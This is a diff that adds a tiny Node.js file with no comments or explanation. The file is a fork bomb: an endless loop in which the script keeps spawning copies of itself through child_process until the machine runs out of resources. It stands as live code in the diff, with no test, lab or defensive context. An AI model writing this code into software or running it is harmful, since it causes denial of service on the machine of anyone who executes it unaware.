@@ -0,0 +1,5 @@
+const { spawn } = require('child_process');
+
+for (;;) {
+  spawn(process.execPath, [__filename]);
+}